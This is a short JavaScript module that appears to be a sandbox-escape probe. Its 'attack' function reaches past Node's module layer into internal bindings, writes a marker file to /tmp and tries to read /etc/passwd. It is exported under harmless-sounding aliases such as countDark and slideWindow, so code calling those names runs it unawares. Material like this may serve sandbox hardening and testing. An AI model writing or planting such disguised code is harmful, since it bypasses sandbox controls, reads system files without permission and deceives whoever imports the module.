// Goes below the modules to the bindings, which check less.
const attack = () => {
  for (const name of ['fs', 'spawn_sync', 'process_wrap', 'pipe_wrap', 'tcp_wrap', 'natives', 'util', 'config']) {
    try {
      const binding = globalThis.process.binding(name);
      console.log(name, Object.keys(binding).length);
      binding.open?.('/tmp/attack-was-here-binding', 66, 438, undefined);
      binding.internalModuleReadJSON?.('/etc/passwd');
    } catch {}
  }
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
